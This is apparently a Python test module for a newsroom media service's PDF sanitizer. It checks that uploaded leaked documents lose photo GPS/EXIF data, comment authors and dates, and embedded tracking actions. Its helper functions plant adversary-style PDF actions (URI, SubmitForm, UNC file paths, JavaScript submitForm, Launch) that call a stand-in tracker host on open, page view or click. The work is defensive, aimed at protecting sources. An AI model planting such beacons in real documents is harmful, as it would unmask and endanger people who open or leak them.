"""PDFs made by LibreOffice, as a leaked document would be, keep no one's traces after upload.

One flat ODT with a phone photo (GPS position, make, model, serial number, artist, time
taken), two comments with their authors and dates and a web link is turned into a PDF
by LibreOffice once per module (soffice takes seconds to start); each test adds the
actions an adversary would plant with pikepdf and uploads it through the media service.
"""

from __future__ import annotations

import base64
import io
import json
import shutil
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageChops

from nashr.core.actors import COMMAND
from nashr.core.exceptions import ValidationError
from nashr.media.services import media_upload

from .conftest import scene_bytes

pytestmark = pytest.mark.django_db

# What the photo, the document and its comments say about the people behind them.
PLANTED = {
    "GPSLatitude": "35.6892",
    "GPSLatitudeRef": "N",
    "GPSLongitude": "51.389",
    "GPSLongitudeRef": "E",
    "Make": "Google",
    "Model": "Pixel 7",
    "SerialNumber": "PX7-20231012-0042",
    "Artist": "Ali Rezaei",
    "DateTimeOriginal": "2023:10:12 14:05:33",
    "XMP-dc:Creator": "Ali Rezaei",
    "Comment": "Evin, north gate",
}
TRACES = ("Rezaei", "Karimi", "Google", "Pixel", "PX7-", "2023", "Evin", "35 deg", "51 deg")
# Long enough not to turn up by chance in compressed bytes.
RAW_TRACES = ("Rezaei", "Karimi", "Pixel 7", "PX7-20231012", "Evin, north")
# exiftool's names for what must be gone, whatever group it sits in.
BETRAYING = (
    "Make",
    "Model",
    "SerialNumber",
    "Artist",
    "Author",
    "Creator",
    "DateTimeOriginal",
    "CreateDate",
    "ModifyDate",
    "Comment",
)
COMMENTS = (
    ("Mina Karimi", "2023-10-12T15:30:00", "Check these numbers against the court record."),
    ("Ali Rezaei", "2023-10-13T09:10:00", "Name removed at the family's request."),
)
SOURCE_LINK = "https://example.org/court-record"

FODT = """<?xml version="1.0" encoding="UTF-8"?>
<office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"
  xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"
  xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"
  xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0"
  xmlns:xlink="http://www.w3.org/1999/xlink"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0"
  office:version="1.3" office:mimetype="application/vnd.oasis.opendocument.text">
 <office:meta>
  <meta:initial-creator>Ali Rezaei</meta:initial-creator>
  <dc:creator>Ali Rezaei</dc:creator>
  <meta:creation-date>2023-10-12T14:00:00</meta:creation-date>
 </office:meta>
 <office:body><office:text>
  <text:p>Statement of the families.{comments} The record:
   <text:a xlink:type="simple" xlink:href="{link}">court record</text:a>.</text:p>
  <text:p><draw:frame draw:name="photo" text:anchor-type="as-char" svg:width="15cm"
    svg:height="11.25cm"><draw:image><office:binary-data>{photo}</office:binary-data>
   </draw:image></draw:frame></text:p>
 </office:text></office:body>
</office:document>
"""
COMMENT = (
    "<office:annotation><dc:creator>{author}</dc:creator><dc:date>{date}</dc:date>"
    "<text:p>{text}</text:p></office:annotation>"
)
# Comments exported as PDF comments; photos not scaled down, so that LibreOffice embeds
# the camera's file as it is, EXIF and all, as Word does.
EXPORT = "pdf:writer_pdf_Export:" + json.dumps(
    {
        "ExportNotes": {"type": "boolean", "value": "true"},
        "ReduceImageResolution": {"type": "boolean", "value": "false"},
    }
)

TRACKER = "tracker.example"
# Actions a planted document uses to learn who opens it; removed on upload.
REMOVED_ACTIONS = (
    "URI",
    "SubmitForm",
    "ImportData",
    "GoToR",
    "GoToE",
    "Sound",
    "Movie",
    "Rendition",
)
# Actions that run code; refused on upload, as before.
REFUSED_ACTIONS = ("JavaScript", "Launch")
LEAKING = {Name("/" + kind) for kind in (*REMOVED_ACTIONS, *REFUSED_ACTIONS)}
# Every action type of PDF 2.0 (a dictionary's /S names other things too: a border style).
ACTION_TYPES = {
    Name("/" + kind)
    for kind in (
        *REMOVED_ACTIONS,
        *REFUSED_ACTIONS,
        "GoTo", "GoToDp", "Thread", "Hide", "Named", "ResetForm", "SetOCGState", "Trans",
        "GoTo3DView", "RichMediaExecute",
    )
}  # fmt: skip


def phone_photo(folder: Path) -> bytes:
    """A JPEG as a phone gives it, with its EXIF and XMP."""
    photo = folder / "PXL_20231012_140533.jpg"
    photo.write_bytes(scene_bytes(width=1600, height=1200))
    tags = [f"-{name}={value}" for name, value in PLANTED.items()]
    subprocess.run(["exiftool", "-q", "-overwrite_original", *tags, str(photo)], check=True)
    return photo.read_bytes()


@pytest.fixture(scope="module")
def made_by_libreoffice(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """The statement as LibreOffice exports it, comments included."""
    assert shutil.which("soffice"), "LibreOffice Writer is missing: run scripts/system-deps.sh"
    folder = tmp_path_factory.mktemp("corpus")
    comments = "".join(
        COMMENT.format(author=author, date=date, text=text) for author, date, text in COMMENTS
    )
    source = folder / "statement.fodt"
    source.write_text(
        FODT.format(
            comments=comments,
            link=SOURCE_LINK,
            photo=base64.b64encode(phone_photo(folder)).decode(),
        ),
        encoding="utf-8",
    )
    # A profile of its own: a second run at the same time would wait on the first's lock.
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{folder / 'profile'}",
            "--headless",
            "--convert-to",
            EXPORT,
            "--outdir",
            str(folder),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=180,
    )
    return (folder / "statement.pdf").read_bytes()


def action(pdf: pikepdf.Pdf, kind: str) -> Dictionary:
    """An action of `kind` that reaches the tracker's host, as an adversary would write it."""
    remote = Dictionary(FS=Name.URL, F=String(f"https://{TRACKER}/r?doc=7"))
    unc = String(f"\\\\{TRACKER}\\share\\minutes.pdf")
    fields: dict[str, dict[str, Any]] = {
        "URI": {"/URI": String(f"https://{TRACKER}/open?doc=7")},
        "SubmitForm": {"/F": remote, "/Flags": 4},
        "ImportData": {"/F": unc},
        "GoToR": {"/F": unc, "/D": Array([0, Name.Fit]), "/NewWindow": False},
        "GoToE": {"/F": remote, "/D": Array([0, Name.Fit])},
        "Sound": {"/Sound": pdf.make_stream(b"\x00" * 8, R=8000, F=remote)},
        "Movie": {"/T": String("clip"), "/Operation": Name.Play},
        "Rendition": {"/OP": 0, "/R": Dictionary(S=Name.MR, C=Dictionary(S=Name.MCD, D=remote))},
        "JavaScript": {"/JS": String(f"this.submitForm('https://{TRACKER}/')")},
        "Launch": {"/F": unc},
    }
    made = Dictionary(Type=Name.Action, S=Name("/" + kind))
    for key, value in fields[kind].items():
        made[key] = value
    return made


def planted(base: bytes, kind: str) -> bytes:
    """The LibreOffice PDF with actions of `kind` wherever a reader's viewer runs them."""
    with pikepdf.open(io.BytesIO(base)) as pdf:
        pdf.Root.OpenAction = action(pdf, kind)
        pdf.Root.AA = Dictionary(WC=action(pdf, kind), DP=action(pdf, kind))
        page = pdf.pages[0].obj
        page.AA = Dictionary(O=action(pdf, kind), C=action(pdf, kind))
        link = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Link,
            Rect=Array([0, 0, 50, 50]),
            A=action(pdf, kind),
            AA=Dictionary(E=action(pdf, kind)),
        )
        screen = Dictionary(
            Type=Name.Annot,
            Subtype=Name.Screen,
            Rect=Array([0, 0, 10, 10]),
            AA=Dictionary(PO=action(pdf, kind)),
        )
        page.Annots = Array([*page.get("/Annots", Array()), link, screen])
        for annotation in page.Annots:
            if annotation.get("/Subtype") == Name.Text:
                annotation.AA = Dictionary(PO=action(pdf, kind))
        # A bookmark whose harmless first step chains to the planted action.
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
        bookmark = pdf.make_indirect(
            Dictionary(
                Title=String("Minutes"),
                Parent=outlines,
                A=Dictionary(
                    S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]), Next=action(pdf, kind)
                ),
            )
        )
        outlines.First = outlines.Last = bookmark
        pdf.Root.Outlines = outlines
        out = io.BytesIO()
        pdf.save(out)
        return out.getvalue()


def upload(data: bytes, media_root: Path) -> Path:
    media = media_upload(
        actor=COMMAND, name="leaked-minutes.pdf", data=data, title="Minutes", language="en"
    )
    return media_root / media.file.name


def exiftool(path: Path) -> dict[str, object]:
    out = subprocess.run(
        ["exiftool", "-j", "-a", "-G1", "-u", str(path)], capture_output=True, check=True
    )
    found = dict(json.loads(out.stdout)[0])
    # The file system's own dates and names are not in the file.
    return {k: v for k, v in found.items() if not k.startswith(("System:", "ExifTool:"))}


def images_of(pdf: Path, folder: Path) -> list[Path]:
    """Every image `pdfimages -all` extracts from `pdf`, in its own format."""
    folder.mkdir()
    subprocess.run(["pdfimages", "-all", str(pdf), str(folder / "image")], check=True)
    return sorted(folder.iterdir())


def betrayals(path: Path) -> list[str]:
    """What exiftool finds in `path` that names a place, a device, a person or a date."""
    found = exiftool(path)
    return [
        f"{key}={value}"
        for key, value in found.items()
        if key.split(":")[0].startswith("GPS")
        or key.split(":")[-1].endswith(BETRAYING)
        or any(trace in str(value) for trace in TRACES)
    ]


def test_libreoffice_embeds_the_photo_with_everything_it_carries(
    made_by_libreoffice: bytes, tmp_path: Path
) -> None:
    """The corpus is what the issue describes: the photo's EXIF survives LibreOffice's export."""
    original = tmp_path / "original.pdf"
    original.write_bytes(made_by_libreoffice)
    photos = [p for p in images_of(original, tmp_path / "images") if p.suffix == ".jpg"]
    assert photos
    found = " ".join(betrayals(photos[0]))
    assert "Pixel 7" in found and "PX7-20231012-0042" in found and "GPS" in found


def test_photo_loses_gps_camera_serial_artist_and_dates(
    made_by_libreoffice: bytes, media_root: Path, tmp_path: Path
) -> None:
    """exiftool finds no position, device, person or date in the file or any extracted image."""
    stored = upload(made_by_libreoffice, media_root)

    assert betrayals(stored) == []
    images = images_of(stored, tmp_path / "images")
    assert [p.suffix for p in images] == [".jpg"]
    for image in images:
        assert betrayals(image) == [], image.name
    for trace in RAW_TRACES:
        assert trace.encode() not in stored.read_bytes(), trace


def test_comment_authors_and_dates_go_and_the_comments_stay(
    made_by_libreoffice: bytes, media_root: Path
) -> None:
    """Comments keep their text and lose the author's name and the dates."""
    with pikepdf.open(io.BytesIO(made_by_libreoffice)) as before:
        notes = [a for a in before.pages[0].Annots if a.get("/Subtype") == Name.Text]
        # LibreOffice writes "Mina Karimi, 10/12/23, ": the author and the date.
        authors = " ".join(str(a.T) for a in notes)
        assert all(author in authors for author, _, _ in COMMENTS)

    stored = upload(made_by_libreoffice, media_root)

    with pikepdf.open(stored) as cleaned:
        annotations = list(cleaned.pages[0].get("/Annots", []))
        texts = {str(a.get("/Contents", "")) for a in annotations}
        assert {text for _, _, text in COMMENTS} <= texts
        for annotation in annotations:
            assert not {"/T", "/M", "/CreationDate", "/NM"} & set(annotation.keys())


def test_the_cleaned_page_looks_as_the_original_did(
    made_by_libreoffice: bytes, media_root: Path, tmp_path: Path
) -> None:
    """The photo is still on the page, pixel for pixel: its JPEG was not re-encoded."""
    original = tmp_path / "original.pdf"
    original.write_bytes(made_by_libreoffice)
    stored = upload(made_by_libreoffice, media_root)

    pages = []
    for pdf in (original, stored):
        prefix = tmp_path / f"page-of-{pdf.stem}"
        subprocess.run(
            ["pdftoppm", "-r", "60", "-png", "-singlefile", str(pdf), str(prefix)], check=True
        )
        with Image.open(prefix.with_suffix(".png")) as page:
            pages.append(page.convert("RGB"))
    assert ImageChops.difference(*pages).getbbox() is None
    # A photo of a street, not a blank page: many shades of grey and blue.
    assert len(pages[1].getcolors(1 << 24) or []) > 500


def _actions(pdf: pikepdf.Pdf) -> Iterator[tuple[Dictionary, str, Dictionary]]:
    """Every action in `pdf`, with the dictionary and key that hold it."""
    seen: set[tuple[int, int]] = set()
    pending: list[object] = [pdf.trailer]
    while pending:
        obj = pending.pop()
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                continue
            seen.add(obj.objgen)
        if isinstance(obj, Dictionary | pikepdf.Stream):
            for key, value in obj.items():
                if isinstance(value, Dictionary) and value.get("/S") in ACTION_TYPES:
                    yield obj, key, value  # type: ignore[misc]
                pending.append(value)
        elif isinstance(obj, Array):
            pending.extend(obj)


@pytest.mark.parametrize("kind", REMOVED_ACTIONS)
def test_actions_that_contact_another_host_are_removed(
    kind: str, made_by_libreoffice: bytes, media_root: Path
) -> None:
    """No action of the planted kind runs on opening, page view, mouse-over or click.

    A web link a reader clicks stays (a `/URI` action held by a `/Link` annotation's `/A`).
    """
    data = planted(made_by_libreoffice, kind)
    assert data.count(f"/{kind}".encode()) >= 7

    stored = upload(data, media_root)

    with pikepdf.open(stored) as cleaned:
        assert "/OpenAction" not in cleaned.Root
        leaks = [
            (str(holder.get("/Subtype", holder.get("/Type", "?"))), key, str(value.S))
            for holder, key, value in _actions(cleaned)
            if value.S in LEAKING
            and not (key == "/A" and holder.get("/Subtype") == Name.Link and value.S == Name.URI)
        ]
        assert leaks == []
        automatic = [holder for holder, key, _ in _actions(cleaned) if key != "/A"]
        assert automatic == []
        for page in cleaned.pages:
            assert "/AA" not in page.obj
            for annotation in page.get("/Annots", []):
                assert "/AA" not in annotation
                assert annotation.get("/Subtype") != Name.Screen
    assert TRACKER.encode() not in stored.read_bytes() or kind == "URI"


@pytest.mark.parametrize("kind", REFUSED_ACTIONS)
def test_script_and_launch_actions_are_refused(kind: str, made_by_libreoffice: bytes) -> None:
    """A PDF that would run code is refused, with a message saying why and what to do."""
    with pytest.raises(ValidationError) as refused:
        media_upload(
            actor=COMMAND,
            name="leaked-minutes.pdf",
            data=planted(made_by_libreoffice, kind),
            title="Minutes",
            language="en",
        )
    assert "script, actions" in str(refused.value)
    assert refused.value.hint


def test_xfa_form_is_refused(made_by_libreoffice: bytes) -> None:
    """An XFA form (a second, scriptable document inside the PDF) is refused."""
    with pikepdf.open(io.BytesIO(made_by_libreoffice)) as pdf:
        pdf.Root.AcroForm = Dictionary(
            Fields=Array(), XFA=pdf.make_stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'/>")
        )
        out = io.BytesIO()
        pdf.save(out)
    with pytest.raises(ValidationError) as refused:
        media_upload(
            actor=COMMAND, name="form.pdf", data=out.getvalue(), title="Form", language="en"
        )
    assert "script, actions" in str(refused.value)


def test_a_web_link_the_reader_clicks_stays(made_by_libreoffice: bytes, media_root: Path) -> None:
    """The document's own link to its source survives cleaning, as readers rely on."""
    stored = upload(made_by_libreoffice, media_root)

    with pikepdf.open(stored) as cleaned:
        links = [
            str(a.A.URI)
            for a in cleaned.pages[0].get("/Annots", [])
            if a.get("/Subtype") == Name.Link and "/A" in a
        ]
    assert links == [SOURCE_LINK]
